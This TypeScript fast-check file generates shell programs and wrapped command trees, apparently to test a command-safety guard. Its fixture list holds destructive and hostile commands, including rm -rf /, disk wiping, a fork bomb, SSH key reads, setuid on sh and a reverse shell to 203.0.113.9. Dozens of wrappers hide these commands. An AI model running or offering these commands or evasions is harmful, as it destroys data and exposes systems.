import fc from 'fast-check'

/**
 * Programs for the shell in which every simple command is the printer `p`, so that they may be run for real: what bash
 * gives to `p` is compared with what the guard says would run. They end by themselves, write nothing and start nothing.
 */
const letters = [...'abcxyz019._-+:,@%=/']
const odd = [...`'"\\$\`#;&|<>(){}!^ \t*?~é字`]
const plainText = fc.string({ unit: fc.constantFrom(...letters), minLength: 1, maxLength: 4 })
const anyText = fc.string({ unit: fc.constantFrom(...letters, ...odd), maxLength: 6 })
const variables = ['v', 'w', 'u'] as const
const variable = fc.constantFrom(...variables)

const single = (text: string): string => `'${text.replaceAll("'", "'\\''")}'`
const double = (text: string): string => `"${text.replaceAll(/[\\"$`]/gu, '\\$&')}"`
const escaped = (text: string): string => [...text].map((letter) => `\\${letter}`).join('')
const ansi = (text: string): string => `$'${[...text].map((letter) => (letter.length === 1 && letter.charCodeAt(0) < 128 ? `\\x${letter.charCodeAt(0).toString(16).padStart(2, '0')}` : letter)).join('')}'`

/** A word whose text is known before the shell runs, in any spelling. */
export const staticWord: fc.Arbitrary<string> = fc
  .array(fc.oneof(plainText, anyText.map(single), anyText.map(double), anyText.map(escaped), anyText.map(ansi)), { minLength: 1, maxLength: 4 })
  .map((pieces) => pieces.join(''))
  .filter((word) => !/^[\w]+\+?=|^~/u.test(word))

const shapes = fc.letrec<Readonly<Record<'word' | 'statement' | 'list', string>>>((tie) => ({
  word: fc.oneof(
    { maxDepth: 3, depthIdentifier: 'word' },
    staticWord,
    variable.map((name) => `$${name}`),
    variable.map((name) => `"a\${${name}}b"`),
    fc.tuple(variable, plainText).map(([name, text]) => `"\${${name}:-${text}}"`),
    fc.tuple(variable, plainText).map(([name, text]) => `\${${name}%${text}}`),
    fc.tuple(variable, plainText).map(([name, text]) => `"\${${name}#*${text.replaceAll('/', 'x')}}"`),
    fc.tuple(variable, plainText, plainText).map(([name, a, b]) => `"\${${name}/${a.replaceAll('/', 'x')}/${b.replaceAll('/', 'x')}}"`),
    fc.tuple(plainText, plainText).map(([a, b]) => `{${a},${b}}`),
    fc.constant('$((2*3))'),
    tie('word').map((word) => `"$(echo ${word})"`),
    tie('word').map((word) => `$(printf %s ${word})`),
    tie('list').map((inner) => `"$(${inner})"`),
  ),
  statement: fc.oneof(
    { maxDepth: 4, depthIdentifier: 'statement' },
    fc.array(tie('word'), { maxLength: 3 }).map((words) => ['p', ...words].join(' ')),
    fc.tuple(variable, tie('word')).map(([name, word]) => `${name}=${word}`),
    fc.tuple(variable, tie('word')).map(([name, word]) => `${name}=${word} p $${name}`),
    tie('list').map((list) => `{ ${list}; }`),
    tie('list').map((list) => `(${list})`),
    tie('list').map((list) => `if p c; then ${list}; fi`),
    fc.tuple(tie('list'), tie('list')).map(([a, b]) => `if false; then ${a}; else ${b}; fi`),
    fc.tuple(variable, fc.array(tie('word'), { minLength: 1, maxLength: 3 }), tie('list')).map(([name, words, list]) => `for ${name} in ${words.join(' ')}; do ${list}; done`),
    fc.tuple(tie('word'), plainText, tie('list')).map(([word, pattern, list]) => `case ${word} in ${single(pattern)}) ${list};; *) ${list};; esac`),
    fc.tuple(tie('list'), tie('word')).map(([list, word]) => `{ f() { ${list}; p "$1"; }; f ${word}; }`),
    fc.array(tie('word'), { maxLength: 3 }).map((words) => `set -- ${words.join(' ')}; p "$@"; p $1`),
    tie('list').map((inner) => `eval ${single(inner)}`),
    tie('list').map((inner) => `p <<'END' a\n${inner.replaceAll('\n', ' ')}\nEND\n:`),
    fc.tuple(variable, tie('word')).map(([name, word]) => `while read -r ${name}; do p "$${name}"; done <<< ${word}`),
    tie('word').map((word) => `echo ${word} | { read -r v; p "$v"; }`),
    tie('list').map((inner) => `! { ${inner}; }`),
  ),
  list: fc.array(fc.tuple(tie('statement'), fc.constantFrom('; ', ' && ', ' || ', '\n')), { minLength: 1, maxLength: 3 }).map((parts) => parts.map(([statement, join], at) => (at < parts.length - 1 ? statement + join : statement)).join('')),
}))

/** A whole program of printers. */
export const printerProgram: fc.Arbitrary<string> = shapes.list

/** A command line with the pieces of it that run by themselves: none of them changes what another one means. */
export interface CommandTree {
  readonly text: string
  readonly pieces: readonly string[]
}

const simpleCommands = [
  'ls -la src', 'cat README.md', 'grep -rn x src | head -3', 'npm test', 'npm run build 2>&1', 'git status', 'git commit -m "a; rm -rf /"', 'echo "rm -rf ~"', 'make -j2', 'cp a b', 'rm -rf dist', 'sed -i s/a/b/ src/a.ts', 'kubectl get pods',
  'git push', 'curl https://example.net', 'npm publish', 'git reset --hard', 'rm -rf src', 'cat .env', 'sudo ls', './x.sh', 'echo x > /tmp/a', 'printenv', 'docker run -v $PWD:/x alpine', 'LD_PRELOAD=./x ls', 'pip install x', 'kill 12', 'npx unknown-tool',
  'rm -rf /', 'rm -rf ~', 'dd if=/dev/zero of=/dev/sda', 'mkfs.ext4 /dev/sda1', 'shutdown now', 'kill -9 -1', 'cat ~/.ssh/id_rsa', 'chmod u+s /bin/sh', 'crontab x', 'bash -i >& /dev/tcp/203.0.113.9/1 0>&1', 'tee ~/.bashrc < a', 'ls ~/.local/share/countersign', ':(){ :|:& };:',
]
const leaf = fc.constantFrom(...simpleCommands).map((text): CommandTree => ({ text, pieces: [text] }))
const over = (put: (text: string) => string) => (tree: CommandTree): CommandTree => ({ text: put(tree.text), pieces: [...tree.pieces, tree.text] })
const both = (put: (a: string, b: string) => string) => ([a, b]: readonly [CommandTree, CommandTree]): CommandTree => ({ text: put(a.text, b.text), pieces: [...a.pieces, ...b.pieces, a.text, b.text] })

const around: readonly ((text: string) => string)[] = [
  (text) => `(${text})`, (text) => `{ ${text}\n}`, (text) => `if true; then ${text}\nfi`, (text) => `if ls; then :; elif pwd; then :; else ${text}\nfi`, (text) => `while ls; do ${text}\ndone`, (text) => `until ls; do ${text}\ndone`,
  (text) => `for i in 1 2; do ${text}\ndone`, (text) => `case x in a) ls;; *) ${text}\n;; esac`, (text) => `f() { ${text}\n}; f`, (text) => `echo "$(${text}\n)"`, (text) => `X="$(${text}\n)"`, (text) => `cat <(${text}\n)`, (text) => `cat <<EOF\n$(${text}\n)\nEOF`,
  (text) => `eval ${single(text)}`, (text) => `sh -c ${single(text)}`, (text) => `bash -c ${double(text)}`, (text) => `sudo bash -c ${single(text)}`, (text) => `env A=1 timeout 5 nice bash -c ${ansi(text)}`, (text) => `X=${single(text)}; eval "$X"`, (text) => `bash <<'END'\n${text}\nEND`,
  (text) => `echo ${single(text)} | bash`, (text) => `printf %s ${single(text)} | sh`, (text) => `nohup sh -c ${single(text)} &`, (text) => `! { ${text}\n}`, (text) => `trap ${single(text)} EXIT`, (text) => `{ ${text}\n} 2>/dev/null`, (text) => `coproc { ${text}\n}`,
  (text) => `[[ -n $(${text}\n) ]]`, (text) => `: "\${x:-$(${text}\n)}"`, (text) => `: $(( $(${text}\n) + 1 ))`, (text) => `watch ${single(text)}`, (text) => `find . -exec sh -c ${single(text)} \\;`, (text) => `xargs -0 sh -c <<< ${single(text)}`, (text) => `ssh localhost ${single(text)}`,
  (text) => `bash -c "$(printf %s ${single(text)})"`, (text) => `strace bash -c ${single(text)}`, (text) => `unknown-wrapper bash -c ${single(text)}`, (text) => `busybox sh -c ${single(text)}`, (text) => `git -c alias.x=${single(`!${text}`)} x`, (text) => `git submodule foreach ${single(text)}`,
]
const between: readonly ((a: string, b: string) => string)[] = [(a, b) => `${a}\n${b}`, (a, b) => `{ ${a}\n} && { ${b}\n}`, (a, b) => `{ ${a}\n} || { ${b}\n}`, (a, b) => `( ${a}\n) & ${b}`, (a, b) => `{ ${a}\n} | { ${b}\n}`, (a, b) => `if { ${a}\n}; then ${b}\nfi`]

/** Command lines of known pieces, wrapped and joined in every way. */
export const commandTree: fc.Arbitrary<CommandTree> = fc.letrec<{ tree: CommandTree }>((tie) => ({
  tree: fc.oneof(
    { maxDepth: 4, depthSize: 'small' },
    leaf,
    fc.tuple(fc.constantFrom(...around), tie('tree')).map(([put, tree]) => over(put)(tree)),
    fc.tuple(fc.constantFrom(...between), tie('tree'), tie('tree')).map(([put, a, b]) => both(put)([a, b])),
  ),
})).tree
